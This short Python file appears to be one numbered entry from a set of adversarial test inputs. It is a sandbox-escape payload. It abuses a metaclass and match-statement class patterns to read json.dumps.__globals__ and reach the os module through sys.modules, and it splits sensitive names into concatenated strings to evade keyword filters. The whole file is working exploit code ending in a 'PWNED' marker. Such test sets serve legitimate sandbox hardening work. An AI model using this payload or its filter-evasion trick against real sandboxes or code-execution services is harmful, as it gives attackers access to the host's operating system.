# adversary round 3: 024_min_match_sys
import json
M=type("M",(type,),{"__instance"+"check__":lambda c,o:1})
P=M("P",(),{"__match"+"_args__":("__glo"+"bals__",)})
match json.dumps:
 case P(g):print(g["s"+"ys"].modules["o"+"s"],"PWN"+"ED")
